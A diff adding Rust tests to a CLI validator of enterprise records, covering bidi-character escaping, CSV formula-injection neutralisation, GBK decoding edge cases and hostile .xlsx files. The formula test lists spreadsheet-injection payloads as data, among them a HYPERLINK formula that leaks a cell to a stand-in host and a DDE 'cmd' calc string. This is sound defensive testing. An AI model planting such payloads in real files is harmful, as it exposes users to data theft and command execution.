@@ -321,6 +321,25 @@ fn check_escapes_control_characters_it_echoes() {
 }
 
 #[test]
+fn check_escapes_bidi_controls_and_line_separators_it_echoes() {
+    // RLO and U+2028 in a value: a line shown reordered ("exe.txt") and a
+    // forged second line; and every other reordering character.
+    let hidden = [
+        "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}",
+        "\u{200E}", "\u{200F}", "\u{061C}", "\u{2028}", "\u{2029}",
+    ];
+    let value: String = hidden.iter().map(|c| format!("x{c}")).collect();
+    let out = run(&["check", "-"], serde_json::json!({ "zone": value }).to_string().as_bytes());
+    assert_eq!(out.status.code(), Some(2));
+    let stderr = text(&out.stderr);
+    for c in hidden {
+        assert!(!stderr.contains(c), "{c:?} raw in {stderr:?}");
+    }
+    assert!(stderr.contains("x\\u{202e}x\\u{2066}"), "{stderr:?}");
+    assert!(stderr.contains("x\\u{2028}x\\u{2029}"), "{stderr:?}");
+}
+
+#[test]
 fn check_refuses_an_input_over_one_mebibyte_and_takes_one_of_exactly_that() {
     let big = format!("{{\"zone\": \"chengdu\"{}}}", " ".repeat((1 << 20) - 19));
     assert_eq!(big.len(), 1 << 20);
@@ -441,6 +460,173 @@ fn check_csv_gives_the_same_output_on_one_thread_and_on_several() {
     }
     let out = run(&["check", "--encoding", "utf-8", "-"], b"{}");
     assert_eq!(out.status.code(), Some(2), "--encoding is for --csv");
+}
+
+#[test]
+#[cfg(feature = "batch")]
+fn check_csv_writes_cells_that_would_start_a_formula_as_text() {
+    let payloads = [
+        "=HYPERLINK(\"http://x.test/?\"&C2)",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "＝1",
+        "＋1",
+        "－1",
+        "＠1",
+    ];
+    let mut input = String::from("企业名称,营业收入（万元）,=1+1\r\n");
+    for payload in payloads {
+        let quoted = format!("\"{}\"", payload.replace('"', "\"\""));
+        input.push_str(&format!("{quoted},{quoted},{quoted}\r\n"));
+    }
+    let out = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], input.as_bytes());
+    assert_eq!(out.status.code(), Some(2), "the amounts are bad cells: {}", text(&out.stderr));
+    let table = csv_table(&out.stdout);
+    assert_eq!(table[0][2], "'=1+1");
+    for (row, payload) in table[1..].iter().zip(payloads) {
+        assert_eq!(row[..3], [format!("'{payload}"), format!("'{payload}"), format!("'{payload}")]);
+    }
+    for cell in table.iter().flatten() {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']), "{cell:?}");
+    }
+}
+
+#[test]
+#[cfg(feature = "batch")]
+fn check_csv_reads_a_gbk_file_cut_in_the_middle_of_a_character() {
+    let (body, _, _) = encoding_rs::GB18030.encode("企业名称,是否高新技术企业\r\n甲公司,是\r\n乙公司,否\r\n丙");
+    let mut bytes = body.into_owned();
+    bytes.push(0x81); // the first byte of a two-byte character, and then the end
+    let dir = std::env::temp_dir().join(format!("hitech-cut-gbk-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("cut.csv");
+    std::fs::write(&path, &bytes).unwrap();
+    let from_file = run(&["check", "--csv", path.to_str().unwrap(), "--as-of", "2026-11-29"], b"");
+    let from_pipe = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], &bytes);
+    std::fs::remove_dir_all(&dir).unwrap();
+    for out in [&from_file, &from_pipe] {
+        assert!(!text(&out.stderr).contains("panicked"), "{}", text(&out.stderr));
+        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+        let table = csv_table(&out.stdout);
+        let names: Vec<&str> = table.iter().map(|row| row[0].as_str()).collect();
+        assert_eq!(names, ["企业名称", "甲公司", "乙公司", "丙\u{FFFD}"], "every row, the cut character as U+FFFD");
+    }
+    let bom_only = run(&["check", "--csv", "-", "--encoding", "gb18030"], b"\xEF\xBB\xBF");
+    assert!(!text(&bom_only.stderr).contains("panicked"), "{}", text(&bom_only.stderr));
+    assert!(matches!(bom_only.status.code(), Some(0 | 2)), "{}", text(&bom_only.stderr));
+}
+
+/// An .xlsx of `rows` (by rust_xlsxwriter) with each part's text changed
+/// by `change`, as a hostile file is made.
+#[cfg(feature = "batch")]
+fn changed_xlsx(rows: &[&[&str]], change: impl Fn(&str, String) -> String) -> Vec<u8> {
+    use std::io::Read;
+    let mut workbook = rust_xlsxwriter::Workbook::new();
+    let sheet = workbook.add_worksheet();
+    for (r, row) in rows.iter().enumerate() {
+        for (c, cell) in row.iter().enumerate() {
+            sheet.write_string(u32::try_from(r).unwrap(), u16::try_from(c).unwrap(), *cell).unwrap();
+        }
+    }
+    let bytes = workbook.save_to_buffer().unwrap();
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for index in 0..archive.len() {
+        let mut entry = archive.by_index(index).unwrap();
+        let name = entry.name().unwrap().into_owned();
+        let mut text = String::new();
+        entry.read_to_string(&mut text).unwrap();
+        out.start_file(name.as_str(), zip::write::SimpleFileOptions::default()).unwrap();
+        out.write_all(change(&name, text).as_bytes()).unwrap();
+    }
+    out.finish().unwrap().into_inner()
+}
+
+#[test]
+#[cfg(feature = "batch")]
+fn check_csv_refuses_a_file_over_a_limit_with_exit_2() {
+    let rows: &[&[&str]] = &[&["企业名称", "是否高新技术企业"], &["甲公司", "是"]];
+    let lying = changed_xlsx(rows, |name, text| {
+        if name.ends_with("sharedStrings.xml") {
+            let at = text.find("uniqueCount=\"").unwrap() + "uniqueCount=\"".len();
+            let end = at + text[at..].find('"').unwrap();
+            format!("{}4294967295{}", &text[..at], &text[end..])
+        } else {
+            text
+        }
+    });
+    let far = changed_xlsx(
+        rows,
+        |name, text| if name.ends_with("sheet1.xml") { text.replace("B2", "XFD1048577") } else { text },
+    );
+    let long_cell = format!("企业名称,备注\r\n甲公司,{}\r\n", "长".repeat(32_768));
+    for (input, said) in [
+        (lying, "the shared strings say they are 4294967295 but hold at most 4"),
+        (far, "row 1048577: more rows than a worksheet holds (1048576)"),
+        (long_cell.into_bytes(), "row 2, column 2: a cell longer than 32767 characters"),
+    ] {
+        let out = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], &input);
+        let stderr = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{stderr}");
+        assert!(stderr.contains("the file is over a limit: ") && stderr.contains(said), "{said}: {stderr}");
+    }
+}
+
+#[test]
+#[cfg(feature = "batch")]
+fn check_csv_exits_2_on_a_quoted_cell_never_closed() {
+    let input = "企业名称,备注\r\n甲公司,好\r\n乙公司,\"未闭合\r\n丙公司,是\r\n丁公司,是\r\n";
+    let gbk = encoding_rs::GB18030.encode(input).0.into_owned();
+    for (encoding, bytes) in [("auto", input.as_bytes().to_vec()), ("gb18030", gbk)] {
+        let out = run(&["check", "--csv", "-", "--encoding", encoding, "--as-of", "2026-11-29"], &bytes);
+        let stderr = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{stderr}");
+        assert!(stderr.contains("a quoted cell opened on line 3 is never closed"), "{stderr}");
+        let names: Vec<String> = csv_table(&out.stdout).into_iter().map(|row| row[0].clone()).collect();
+        assert_eq!(names, ["企业名称", "甲公司", "乙公司"], "the rows before it are written");
+    }
+}
+
+#[test]
+#[cfg(feature = "batch")]
+fn check_csv_reads_gbk_after_a_utf8_byte_order_mark_as_gbk() {
+    let gbk = encoding_rs::GB18030.encode("企业名称,是否高新技术企业\r\n甲公司,是\r\n").0.into_owned();
+    let lying = [b"\xEF\xBB\xBF".as_slice(), &gbk].concat();
+    for encoding in ["auto", "gb18030"] {
+        let out = run(&["check", "--csv", "-", "--encoding", encoding, "--as-of", "2026-11-29"], &lying);
+        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+        let table = csv_table(&out.stdout);
+        assert_eq!(table[0][..2], ["企业名称", "是否高新技术企业"]);
+        assert_eq!(table[1][..2], ["甲公司", "是"]);
+    }
+}
+
+#[test]
+#[cfg(feature = "batch")]
+fn check_csv_stops_at_a_row_past_the_first_mebibyte_that_is_not_utf8() {
+    // UTF-8 for more than the mebibyte the encoding is guessed from, then a GBK row.
+    let mut input = "企业名称,备注\r\n".as_bytes().to_vec();
+    let mut rows = 0;
+    while input.len() <= 1 << 20 {
+        input.extend_from_slice("甲公司,一行中文备注\r\n".as_bytes());
+        rows += 1;
+    }
+    input.extend(encoding_rs::GB18030.encode("乙公司,是\r\n丙公司,是\r\n").0.iter());
+    let out = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], &input);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains(&format!("row {} is not UTF-8", rows + 2)) && stderr.contains("--encoding gb18030"),
+        "{stderr}"
+    );
+    let table = csv_table(&out.stdout);
+    assert_eq!(table.len(), rows + 1, "every row before it is written");
+    assert!(!String::from_utf8_lossy(&out.stdout).contains('\u{FFFD}'), "no row of U+FFFD");
+    let told = run(&["check", "--csv", "-", "--encoding", "utf-8", "--as-of", "2026-11-29"], &input);
+    assert_eq!(csv_table(&told.stdout).len(), rows + 3, "told UTF-8, it reads on (U+FFFD), as before");
 }
 
 #[test]
